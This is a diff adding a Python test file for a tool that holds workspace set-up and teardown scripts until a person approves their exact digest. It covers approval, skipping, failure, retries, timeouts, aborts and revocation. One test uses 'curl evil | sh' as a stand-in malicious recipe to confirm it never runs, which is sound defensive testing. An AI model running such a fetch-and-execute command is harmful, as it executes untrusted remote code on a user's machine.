@@ -1,0 +1,243 @@
+"""Set-ups through the door: they wait for leave, run, are seen, fail, are retried, skipped, aborted, and torn down."""
+
+from typing import Any
+
+import pytest
+
+from fleet.ports import Recipe
+from tests.gateway.door import NOWHERE, PLAIN, REPOSITORY, Answer, Door, Machine
+
+GIT = f"{REPOSITORY}/.git"
+RECIPE = Recipe("d1", "npm ci", "docker compose down")
+BRIEF = {"status": "held", "exitCode": None, "detail": "", "endedAt": None}
+
+
+@pytest.fixture
+async def machine(machine: Machine) -> Machine:
+    machine.scripts.recipe = RECIPE
+    return machine
+
+
+async def asked(door: Door, strategy: str = "worktree", **fields: Any) -> str:
+    """Create a session whose set-up waits for leave, and return its path."""
+    item = await door.session(REPOSITORY, isolationStrategy=strategy, **fields)
+    await door.tree.views.sessions.wait(item["id"], lambda s: s.setup is not None and s.setup.status == "held")
+    return f"/api/sessions/{item['id']}"
+
+
+async def decide(door: Door, path: str, **body: str) -> Answer:
+    return await door.knock("POST", f"{path}/setup", body)
+
+
+async def allow(door: Door, path: str, digest: str = "d1") -> Answer:
+    return await decide(door, path, action="allow", digest=digest)
+
+
+async def item_of(door: Door, path: str) -> dict[str, Any]:
+    """Wait until the session is there or has failed, and return its item."""
+    await door.tree.views.sessions.wait(path.rpartition("/")[2], lambda s: s.provisioning is None)
+    item: dict[str, Any] = (await door.knock("GET", path)).json
+    return item
+
+
+async def test_nothing_runs_before_a_person_allows_it(machine: Machine, door: Door) -> None:
+    path = await asked(door, initialPrompt="work")
+    item = (await door.knock("GET", path)).json
+    assert (item["status"], item["queued"]) == ("waiting_input", 1)
+    assert item["setup"].items() >= BRIEF.items()
+    assert [each["id"] for each in (await door.knock("GET", "/api/sessions?status=waiting_input")).json] == [item["id"]]
+    [waiting] = (await door.knock("GET", "/api/inbox")).json
+    assert (waiting["kind"], waiting["sessionId"]) == ("setup", item["id"])
+    assert (waiting["setup"]["setup"], waiting["setup"]["digest"]) == ("npm ci", "d1")
+    assert machine.scripts.ran == []
+    assert (await allow(door, path)).json["digest"] == "d1"
+    item = await door.settled(item["id"])
+    assert (item["status"], item["setup"]["status"], item["setup"]["exitCode"]) == ("idle", "done", 0)
+    assert [(script.text, script.directory) for script in machine.scripts.ran] == [("npm ci", item["directory"])]
+    assert (await door.knock("GET", f"{path}/setup")).json["output"] == "done\n"
+    assert (await door.knock("GET", "/api/inbox")).json == []
+
+
+async def test_what_was_allowed_runs_in_the_next_workspace_and_nothing_else_does(machine: Machine, door: Door) -> None:
+    await allow(door, await asked(door))
+    second = await door.session(REPOSITORY, isolationStrategy="clone")
+    assert (await item_of(door, f"/api/sessions/{second['id']}"))["setup"]["status"] == "done"
+    machine.scripts.recipe = Recipe("d2", "curl evil | sh")
+    await asked(door)
+    machine.files.add_repository("/home/user/other")
+    machine.scripts.recipe = RECIPE
+    other = await door.session("/home/user/other", isolationStrategy="worktree")
+    state = await door.tree.views.sessions.wait(other["id"], lambda s: s.setup is not None and s.setup.status == "held")
+    assert state.setup is not None
+    assert [script.text for script in machine.scripts.ran] == ["npm ci", "npm ci"]
+
+
+async def test_a_directory_that_is_used_as_it_is_is_not_set_up(machine: Machine, door: Door) -> None:
+    item = await door.session(REPOSITORY)
+    assert (item["status"], item["setup"]) == ("idle", None)
+    (await door.knock("GET", f"/api/sessions/{item['id']}/setup")).problem(404, "setup_missing")
+    (await decide(door, f"/api/sessions/{item['id']}", action="skip")).problem(409, "setup_not_waiting")
+    (await allow(door, f"/api/sessions/{item['id']}")).problem(409, "setup_not_waiting")
+    assert machine.scripts.ran == []
+
+
+async def test_another_content_than_was_read_is_not_allowed(door: Door) -> None:
+    path = await asked(door)
+    (await allow(door, path, "d2")).problem(409, "setup_changed")
+    (await decide(door, path, action="allow")).problem(422, "invalid")
+    assert (await door.knock("GET", "/api/trust")).json == []
+
+
+async def test_a_person_goes_on_without_it(machine: Machine, door: Door) -> None:
+    path = await asked(door, initialPrompt="work")
+    assert (await decide(door, path, action="skip")).json["status"] == "skipped"
+    item = await item_of(door, path)
+    assert (item["status"], item["setup"]["status"]) == ("active", "skipped")
+    assert machine.scripts.ran == []
+
+
+async def test_a_failure_says_why_and_is_tried_again(machine: Machine, door: Door) -> None:
+    machine.scripts.ends["npm ci"] = 1
+    machine.scripts.output = "downloading\nE404 no such package\n"
+    path = await asked(door)
+    await allow(door, path)
+    item = await item_of(door, path)
+    said = "the set-up ended with exit code 1: downloading / E404 no such package"
+    assert (item["status"], item["failure"]["code"], item["failure"]["detail"]) == ("error", "setup_failed", said)
+    assert item["setup"].items() >= {"status": "failed", "exitCode": 1, "detail": said}.items()
+    machine.scripts.ends.clear()
+    assert (await door.knock("POST", f"{path}/resume")).status == 200
+    assert (await item_of(door, path))["status"] in ("active", "idle")
+    assert len(machine.scripts.ran) == 2
+
+
+async def test_a_failure_can_be_skipped(machine: Machine, door: Door) -> None:
+    machine.scripts.ends["npm ci"] = 1
+    path = await asked(door)
+    await allow(door, path)
+    assert (await item_of(door, path))["status"] == "error"
+    await decide(door, path, action="skip")
+    assert (await item_of(door, path))["setup"]["status"] == "skipped"
+    assert len(machine.scripts.ran) == 1
+
+
+async def test_a_set_up_that_hangs_is_ended(machine: Machine, door: Door) -> None:
+    machine.scripts.lasts_s = 1e9
+    path = await asked(door)
+    await allow(door, path)
+    item = await item_of(door, path)
+    assert item["failure"]["detail"] == "the set-up took longer than 1800 s and was ended: done"
+
+
+async def test_an_abort_ends_it(machine: Machine, door: Door) -> None:
+    machine.scripts.lasts_s = 1e9
+    path = await asked(door)
+    await allow(door, path)
+    await door.tree.views.sessions.wait(
+        path.rpartition("/")[2], lambda s: s.evidence == "its workspace is being set up"
+    )
+    (await decide(door, path, action="skip")).problem(409, "session_not_ready")
+    aborted = (await door.knock("POST", f"{path}/abort")).json
+    assert (aborted["outcome"], aborted["session"]["failure"]["code"]) == ("aborted", "setup_aborted")
+    assert door.tree.context.scripts.running == set()
+
+
+async def test_a_bad_file_is_a_failure_that_can_be_skipped(machine: Machine, door: Door) -> None:
+    machine.scripts.recipe = Recipe("d3", problem=".fleet.toml: Expected ']'")
+    item = await door.session(REPOSITORY, isolationStrategy="worktree")
+    path = f"/api/sessions/{item['id']}"
+    assert (await item_of(door, path))["failure"]["code"] == "setup_invalid"
+    (await allow(door, path, "d3")).problem(422, "setup_invalid")
+    await decide(door, path, action="skip")
+    assert (await item_of(door, path))["failure"] is None
+
+
+async def test_a_resume_does_not_set_up_again_and_a_restored_workspace_is_set_up(machine: Machine, door: Door) -> None:
+    path = await asked(door)
+    await allow(door, path)
+    workspace = f"/api/workspaces/{(await item_of(door, path))['workspaceId']}"
+    await door.knock("DELETE", path)
+    await door.knock("POST", f"{path}/resume")
+    await item_of(door, path)
+    assert [script.text for script in machine.scripts.ran] == ["npm ci"]
+    await door.knock("DELETE", f"{path}?cleanupWorkspace=true")
+    assert (await door.knock("GET", workspace)).json["teardown"].items() >= {"exitCode": 0, "detail": ""}.items()
+    await door.knock("POST", f"{workspace}/restore")
+    await door.knock("POST", f"{path}/resume")
+    await item_of(door, path)
+    assert [script.text for script in machine.scripts.ran] == ["npm ci", "docker compose down", "npm ci"]
+
+
+async def test_a_teardown_that_fails_holds_nothing_up(machine: Machine, door: Door) -> None:
+    machine.scripts.ends["docker compose down"] = 3
+    path = await asked(door)
+    await allow(door, path)
+    item = await item_of(door, path)
+    machine.scripts.output = "no docker\n"
+    assert (await door.knock("DELETE", f"{path}?cleanupWorkspace=true")).json["workspace"]["removed"]
+    teardown = (await door.knock("GET", f"/api/workspaces/{item['workspaceId']}")).json["teardown"]
+    said = "the teardown ended with exit code 3"
+    assert (teardown["exitCode"], teardown["detail"], teardown["output"]) == (3, said, "no docker\n")
+
+
+async def test_a_teardown_that_is_not_allowed_any_more_does_not_run(machine: Machine, door: Door) -> None:
+    path = await asked(door)
+    await allow(door, path)
+    item = await item_of(door, path)
+    assert (await door.knock("DELETE", f"/api/trust?repository={GIT}&digest=d1")).json == []
+    assert (await door.knock("DELETE", f"{path}?cleanupWorkspace=true")).json["workspace"]["removed"]
+    teardown = (await door.knock("GET", f"/api/workspaces/{item['workspaceId']}")).json["teardown"]
+    assert teardown["detail"] == "it did not run: nobody allows its commands any more"
+    assert [script.text for script in machine.scripts.ran] == ["npm ci"]
+
+
+async def test_a_kill_in_the_middle_is_repeated(machine: Machine) -> None:
+    machine.scripts.lasts_s = 1000.0
+    async with machine.fleet(killed=True) as door:
+        path = await asked(door)
+        await allow(door, path)
+        await door.tree.views.sessions.wait(path.rpartition("/")[2], lambda s: s.evidence.endswith("set up"))
+    machine.scripts.lasts_s = 0.01
+    async with machine.fleet() as door:
+        assert (await item_of(door, path))["setup"]["status"] == "done"
+        assert (await door.knock("GET", f"{path}/setup")).json["output"] == "done\n"
+    assert len(machine.scripts.ran) == 2
+
+
+async def test_a_kill_while_it_waits_for_leave_waits_on(machine: Machine) -> None:
+    async with machine.fleet(killed=True) as door:
+        path = await asked(door)
+    async with machine.fleet() as door:
+        assert (await door.knock("GET", path)).json["status"] == "waiting_input"
+        await allow(door, path)
+        assert (await item_of(door, path))["setup"]["status"] == "done"
+
+
+async def test_trust_is_given_by_directory_listed_and_revoked(machine: Machine, door: Door) -> None:
+    recipe = (await door.knock("GET", f"/api/trust/recipe?directory={REPOSITORY}")).json
+    assert recipe == {
+        "repository": GIT,
+        "digest": "d1",
+        "setup": "npm ci",
+        "teardown": "docker compose down",
+        "submodules": False,
+        "allowed": False,
+        "problem": None,
+    }
+    body = {"directory": REPOSITORY, "digest": "d1"}
+    (await door.knock("POST", "/api/trust", body | {"digest": "d2"})).problem(409, "setup_changed")
+    assert (await door.knock("POST", "/api/trust", body)).json["allowed"]
+    [listed] = (await door.knock("GET", "/api/trust")).json
+    assert (listed["repository"], listed["digest"], listed["by"]) == (GIT, "d1", "local")
+    item = await door.session(REPOSITORY, isolationStrategy="worktree")
+    assert (await item_of(door, f"/api/sessions/{item['id']}"))["setup"]["status"] == "done"
+    assert (await door.knock("DELETE", f"/api/trust?repository={GIT}")).json == []
+    (await door.knock("DELETE", f"/api/trust?repository={GIT}")).problem(404, "trust_not_found")
+    machine.scripts.recipe = None
+    (await door.knock("POST", "/api/trust", body)).problem(404, "setup_missing")
+    (await door.knock("GET", f"/api/trust/recipe?directory={PLAIN}")).problem(422, "not_a_repository")
+
+
+async def test_an_unknown_session(door: Door) -> None:
+    (await door.knock("GET", f"/api/sessions/{NOWHERE}/setup")).problem(404, "session_not_found")
+    (await decide(door, f"/api/sessions/{NOWHERE}", action="skip")).problem(404, "session_not_found")
